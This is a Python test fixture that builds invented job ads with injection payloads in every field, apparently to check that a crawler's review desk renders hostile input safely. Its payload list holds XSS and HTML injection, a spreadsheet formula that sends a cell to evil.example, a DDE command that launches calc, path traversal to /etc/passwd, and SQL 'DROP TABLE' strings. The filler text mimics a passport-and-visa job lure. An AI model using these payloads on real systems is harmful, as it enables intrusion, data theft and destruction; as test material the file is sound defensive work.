"""Ads whose every field is an attack, and where a desk would feel it. Every text is invented."""

from dataclasses import replace

from builders import make_ad
from crawler.ad import Contact, JobAd, PageRef, Salary

ATTACKS = {
    "script": "<script>window.hacked='script'</script>",
    "closing": "</title></textarea></option></select></style></script></svg><script>window.hacked='closing'</script>",
    "handler": "\"><img src=x onerror=\"window.hacked='handler'\"><details open ontoggle=window.hacked='toggle'>",
    "attribute": "' onmouseover='window.hacked=1' autofocus onfocus=window.hacked=1 x='",
    "svg": "<svg onload=window.hacked='svg'><animate onbegin=window.hacked='animate'></svg><math><mtext></svg>",
    "css": "<style>main{display:none}</style><link rel=stylesheet href=//evil.example/x.css>;background:url(//x.ex)",
    "frame": "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe><base href=//evil.example><meta "
    "http-equiv=refresh content='0;url=//x.example'><form action=//x.example><button formaction=javascript:alert(1)>",
    "address": "javascript:window.hacked='address'//",
    "template": "{{ 7 * 7 }}{% include 'base.html' %}${7*7}#{7*7}<%= 7*7 %>%(is)s{0.__class__}[bold red]x[/]",
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")\n+1+1\n-2+3\n@SUM(1)\t=cmd|' /C calc'!A0",
    "direction": "safe\u202egnp.exe\u2066\u2067moc.live\u2069\u200f",
    "terminal": "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\\x9b31m\x08\x08\r\x7f\x00",
    "path": "../../../../etc/passwd\\..\\..\\windows\\win.ini",
    "query": "'; DROP TABLE decisions; -- \" OR 1=1 /*",
    "surrogate-like": "\ufffe\U000e0041\ufeff\u2028\u2029",
}  # fmt: skip
ALL = " ".join(ATTACKS.values())


def attack_ads() -> tuple[JobAd, ...]:
    """One ad that holds all attacks in all of its fields, then some copies of one text that vary in one attack each."""
    whole = make_ad(
        ad_id=f"{ATTACKS['path']}{ATTACKS['script']}", source="attacks", title=ALL, description=f"{ALL}\n{ALL}",
        url=ATTACKS["address"], apply_url=f"data:text/html,{ATTACKS['script']}", hiring_organization=ALL,
        company_profile=ALL, job_location=ALL, employment_type=ALL, language="vi", country="KH",
        base_salary=Salary(raw=ALL, currency=ATTACKS["formula"]), contacts=tuple(_contacts(ALL)),
        page=PageRef(file=ATTACKS["path"], offset=0, sha256=ATTACKS["script"]),
    )  # fmt: skip
    copies = (
        replace(
            whole, ad_id=said, title="Typist by the sea", description=SAID.format(said),
            company_profile=None, hiring_organization=said, job_location=said, contacts=tuple(_contacts(said)),
            url=f"https://x.example/{name}",
        )
        for name, said in ATTACKS.items()
    )  # fmt: skip
    return (whole, *copies)


SAID = (
    "We hire typists for an office by the sea. Rooms are free and meals are shared. Bring your passport, we pay the "
    "visa and the ticket. Ask for {} at the desk, we answer all day and all night, weekends too."
)


def _contacts(said: str) -> list[Contact]:
    return [
        Contact(kind="phone", value="+85511000777"), Contact(kind="email", value=f"a@{said}.example"),
        Contact(kind="url", value=said), Contact(kind="telegram", value=said), Contact(kind=said, value=said),
    ]  # fmt: skip
